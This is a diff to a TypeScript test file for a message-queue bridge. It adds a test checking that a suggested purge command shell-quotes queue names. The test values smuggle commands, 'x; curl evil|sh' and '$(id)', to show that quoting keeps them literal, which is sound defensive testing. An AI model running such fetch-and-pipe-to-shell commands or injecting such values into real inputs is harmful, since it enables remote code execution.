@@ -1,5 +1,6 @@
 import {describe, expect, test} from 'vitest'
 
+import {destinationId} from '../../src/model/id.ts'
 import type {Move, Tap} from '../../src/model/plan.ts'
 import {asBridge, Bridge, makeTaps, removeTaps, tapNotes} from '../../src/session/bridge.ts'
 import type {SourceEvent, Taps} from '../../src/sources/source.ts'
@@ -127,6 +128,17 @@ test('a tap that was full is not gone on with before somebody has looked', async
   expect(at.asked).toEqual([`make ${QUEUE}`])
   at.state.overflow = 1
   await expect(makeTaps(at.session, at.source, [tapMove])).rejects.toMatchObject({reason: 'tap-full'})
+})
+
+test('a command for a full tap hands the shell one word for each name', async () => {
+  const at = await bench()
+  at.state.overflow = 1
+  const queue = destinationId('queue', 'x; curl evil|sh', 'mqlift.tap.$(id)')
+  await expect(makeTaps(at.session, at.source, [{...tapMove, source: queue}])).rejects.toMatchObject({
+    suggestions: expect.arrayContaining([
+      expect.stringMatching(/ purge_queue -p 'x; curl evil\|sh' 'mqlift\.tap\.\$\(id\)\.overflow'$/),
+    ]),
+  })
 })
 
 test('a source without taps refuses them, and only them', async () => {
